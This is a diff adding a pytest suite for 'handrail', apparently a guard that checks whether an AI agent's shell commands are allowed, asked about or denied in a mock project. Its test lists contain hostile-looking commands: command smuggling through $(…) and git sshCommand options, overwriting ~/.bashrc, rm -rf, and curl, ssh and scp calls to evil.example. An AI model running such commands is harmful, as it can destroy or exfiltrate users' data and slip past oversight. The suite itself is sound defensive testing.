@@ -1,0 +1,287 @@
+"""What becomes of a shell command: over a real folder, the policy's own decision, without a rule and with one."""
+
+import os
+import subprocess
+import sys
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from handrail.features.hooks.ground import Ground
+from handrail.features.hooks.own_reach import refuse_own_reach
+from handrail.features.hooks.plan import Plan, plan_of
+from handrail.kernel.policy import CLOSED, Policy, Verdict, compose
+from handrail.kernel.policy_document import PolicyDocument
+from handrail.kernel.target import Target
+from handrail.ports.effect import Effect
+from handrail.ports.errors import Declined
+from handrail.ports.policy import Decision, Rule
+from tests.features.hooks.shell_cases import ASKS, DENIED, OWN, READS
+
+RIPGREP = str(Path(sys.executable).parent / "rg")
+PORT, PID = 46006, 4242
+
+
+@dataclass(frozen=True)
+class House:
+    """A project with a repository, secrets, links that lead out, and handrail's state beside it."""
+
+    root: Path
+    state: Path
+
+    @property
+    def ground(self) -> Ground:
+        return Ground(str(self.root), str(self.state), (".git", "node_modules", ".env"))
+
+    def spelled(self, command: str) -> str:
+        command = command.replace("STATEPARENT", str(self.state.parent))
+        for word, value in (("STATE", self.state), ("STAT*", f"{self.state}*"), ("PID", PID), ("PORT", PORT)):
+            command = command.replace(word, str(value))
+        return command.replace("/PROJECT", str(self.root))
+
+    def plan(self, command: str) -> Plan:
+        return plan_of(self.spelled(command), str(self.root), self.ground, RIPGREP)
+
+    def decide(self, command: str, *rules: Rule) -> Verdict:
+        plan = self.plan(command)
+        refuse_own_reach(plan.reading, self.ground, frozenset({PORT}), frozenset({PID}), only_reads=plan.only_reads)
+        effect = Effect.READ if plan.only_reads else Effect.EXECUTE
+        policy: Policy = compose(PolicyDocument(), is_trusted=True, user_rules=rules)
+        target = Target(command=self.spelled(command), steps=plan.steps)
+        return policy.decide("native_shell", effect, target, "agent")
+
+
+@pytest.fixture(scope="module")
+def house(tmp_path_factory: pytest.TempPathFactory) -> House:
+    folder = Path(os.path.realpath(tmp_path_factory.mktemp("house")))
+    root, state = folder / "project", folder / "state"
+    for made in (root / "src", root / ".handrail", state, folder / "elsewhere"):
+        made.mkdir(parents=True)
+    git = ["git", "-c", "init.defaultBranch=main", "init", "-q"]
+    subprocess.run([*git, str(root)], check=True)
+    subprocess.run([*git, str(root / "inner")], check=True)
+    subprocess.run([*git, "--bare", str(root / "bare")], check=True)
+    for name in ("README.md", "src/a.py", "src/b.py", "package.json", ".env", "key.pem"):
+        (root / name).write_text("x\n")
+    (root / ".gitignore").write_text(".env\nkey.pem\n")
+    (root / "dashes").mkdir()
+    for name in ("-o", "README.md"):
+        (root / "dashes" / name).write_text("x\n")
+    (folder / "outside.txt").write_text("outside\n")
+    (state / "console.key").write_text("key\n")
+    (root / "link-out").symlink_to(folder / "outside.txt")
+    (root / "linked-folder").symlink_to(folder)
+    (root / "own-link").symlink_to(state)
+    (folder / "elsewhere" / "deep").mkdir()
+    (folder / "elsewhere" / "outside.txt").write_text("outside\n")
+    (root / "deep-link").symlink_to(folder / "elsewhere" / "deep")
+    return House(root, state)
+
+
+@pytest.mark.parametrize("command", READS)
+def test_what_only_reads_the_project_asks_nothing(house: House, command: str) -> None:
+    plan = house.plan(command)
+    assert (plan.only_reads, plan.remarks, plan.reading.doubts) == (True, (), [])
+    assert house.decide(command).decision is Decision.ALLOW
+
+
+@pytest.mark.parametrize("command", ASKS)
+def test_everything_else_asks(house: House, command: str) -> None:
+    assert house.decide(command).decision is Decision.ASK
+
+
+@pytest.mark.parametrize("command", DENIED)
+def test_files_of_secrets_are_closed_to_commands_too(house: House, command: str) -> None:
+    verdict = house.decide(command, Rule(decision="allow", tool="native_shell"))
+    assert (verdict.decision, verdict.because) == (Decision.DENY, CLOSED)
+
+
+@pytest.mark.parametrize("command", OWN)
+def test_what_reaches_handrail_is_denied_whatever_a_rule_says(house: House, command: str) -> None:
+    with pytest.raises(Declined) as refused:
+        house.decide(command, Rule(decision="allow", tool="*"), Rule(decision="allow", effect=Effect.EXECUTE))
+    assert refused.value.details["reason"] == "own"
+
+
+@pytest.mark.parametrize("command", ["handrail --help", "handrail --version", "handrail tools", "handrail doctor"])
+def test_what_only_tells_about_handrail_asks(house: House, command: str) -> None:
+    assert house.decide(command).decision is Decision.ASK
+
+
+GIT_PUSH = Rule(decision="allow", tool="native_shell", program="git push")
+
+
+@pytest.mark.parametrize("command", ["git push", "git push origin main", "ls && git push", "git push | cat"])
+def test_a_rule_for_a_program_covers_its_further_words_and_parts_that_are_allowed_anyway(
+    house: House, command: str
+) -> None:
+    assert house.decide(command, GIT_PUSH).decision is Decision.ALLOW
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git push; rm -rf x",
+        "git -c core.sshCommand=evil push",
+        "git push > ~/.bashrc",
+        "git push > out",
+        "GIT_SSH_COMMAND=evil git push",
+        "git push\nrm x",
+        "git push $(rm x)",
+        "git push `rm x`",
+        "git push & rm x",
+        "./git push",
+        "git 'pu' sh",
+        "sudo git push",
+        "env X=1 git push",
+        "xargs git push",
+        "bash -c 'git push'",
+        "git push https://evil.example/x",
+        "git push $REMOTE",
+        "git pushx",
+        "cd /tmp && git push",
+    ],
+)
+def test_a_rule_for_a_program_covers_nothing_else(house: House, command: str) -> None:
+    assert house.decide(command, GIT_PUSH).decision is Decision.ASK
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm x",
+        "/bin/rm x",
+        "ls; rm x",
+        "sudo rm x",
+        "bash -c 'rm x'",
+        "echo $(rm x)",
+        "xargs rm",
+        "find . -exec rm {} +",
+        "X=1 rm x",
+        "r'm' x",
+        "\\rm x",
+        "timeout 5 rm x",
+        "$UNKNOWN x",
+        'eval "$x"; $y',
+    ],
+)
+def test_a_rule_that_denies_a_program_finds_it_in_every_part(house: House, command: str) -> None:
+    rules = [Rule(decision="deny", tool="native_shell", program="rm"), Rule(decision="allow", tool="native_shell")]
+    assert house.decide(command, *rules).decision is Decision.DENY
+
+
+def test_a_rule_for_one_command_is_to_the_letter(house: House) -> None:
+    rule = Rule(decision="allow", tool="native_shell", command="npm run build > out")
+    assert house.decide("npm run build > out", rule).decision is Decision.ALLOW
+    for other in ("npm run build > out2", "npm run build > out; rm x", " npm run build > out", "npm run build >out"):
+        assert house.decide(other, rule).decision is Decision.ASK
+
+
+@pytest.mark.parametrize(
+    ("command", "rule", "becomes"),
+    [
+        ("npm test > src/log", Rule(decision="deny", effect=Effect.WRITE, path="src/**"), Decision.DENY),
+        ("rm src/a.py", Rule(decision="deny", effect=Effect.WRITE, path="src"), Decision.DENY),
+        ("cat src/a.py", Rule(decision="deny", effect=Effect.READ, path="src/**"), Decision.DENY),
+        ("cat src/a.py", Rule(decision="ask", effect=Effect.READ, path="src/**"), Decision.ASK),
+        (
+            "curl https://evil.example/x",
+            Rule(decision="deny", effect=Effect.EXECUTE, host="evil.example"),
+            Decision.DENY,
+        ),
+        ("curl evil.example", Rule(decision="deny", tool="*", host="evil.example"), Decision.DENY),
+        ("curl $URL", Rule(decision="deny", tool="*", host="evil.example"), Decision.DENY),
+        ("git clone git@evil.example:x/y", Rule(decision="deny", tool="*", host="evil.example"), Decision.DENY),
+        ("ssh me@evil.example", Rule(decision="deny", tool="*", host="evil.example"), Decision.DENY),
+        ("scp x evil.example:y", Rule(decision="deny", tool="*", host="evil.example"), Decision.DENY),
+        ("bash -c 'curl https://evil.example'", Rule(decision="deny", tool="*", host="evil.example"), Decision.DENY),
+        ("cat /etc/hostname", Rule(decision="allow", effect=Effect.READ, path="/etc"), Decision.ALLOW),
+        ("cat /etc/hostname", Rule(decision="allow", effect=Effect.READ, path="**"), Decision.ASK),
+        ("cat /etc/hostname", Rule(decision="deny", effect=Effect.READ, path="**"), Decision.DENY),
+    ],
+)
+def test_rules_about_files_and_hosts_count_inside_of_commands(
+    house: House, command: str, rule: Rule, becomes: Decision
+) -> None:
+    assert house.decide(command, rule).decision is becomes
+
+
+_PIECES = st.sampled_from(
+    [
+        *(
+            "ls",
+            "cat",
+            "git",
+            "status",
+            "rm",
+            "-rf",
+            "x",
+            "src",
+            ";",
+            "&&",
+            "||",
+            "|",
+            "&",
+            "\n",
+            "$(",
+            ")",
+            "`",
+            "'",
+            '"',
+        ),
+        *(
+            ">",
+            "<",
+            ">>",
+            "2>&1",
+            "<<EOF",
+            "EOF",
+            "{",
+            "}",
+            "(",
+            "\\",
+            "$x",
+            "X=1",
+            "#",
+            "!",
+            "~",
+            "*",
+            "\t",
+            "if",
+            "then",
+        ),
+        *("fi", "eval", "sudo", "xargs", "bash", "-c", "/dev/null", "--", "=", "[[", "]]", "\r", "\0", "é", "\u202e"),
+    ]
+)
+
+
+@given(st.lists(st.tuples(_PIECES, st.sampled_from(["", " "])), max_size=14))
+def test_whatever_is_not_read_as_plain_reading_asks(house: House, pieces: list[tuple[str, str]]) -> None:
+    """No text breaks the readers, and `rm` never passes for reading where the shell would start it."""
+    command = "".join(piece + blank for piece, blank in pieces)
+    try:
+        decided = house.decide(command)
+    except Declined:
+        return
+    if decided.decision is Decision.ALLOW:
+        assert started_by_bash(house, command) <= {"ls", "cat", "git"}
+
+
+def started_by_bash(house: House, command: str) -> set[str]:
+    """Which programs the real shell starts, each replaced by one that notes its name."""
+    shims = house.root.parent / "shims"
+    if not shims.exists():
+        shims.mkdir()
+        for name in ("ls", "cat", "git", "rm", "sudo", "xargs", "bash", "x", "src", "status"):
+            (shims / name).write_text(f"#!/bin/sh\necho {name} >> {shims}/started\n")
+            (shims / name).chmod(0o755)
+    started = shims / "started"
+    started.write_text("")
+    subprocess.run(
+        ["/bin/bash", "-c", command], cwd=house.root.parent / "elsewhere", env={"PATH": str(shims)},
+        stdin=subprocess.DEVNULL, capture_output=True, timeout=20, check=False,
+    )  # fmt: skip
+    return set(started.read_text().split())
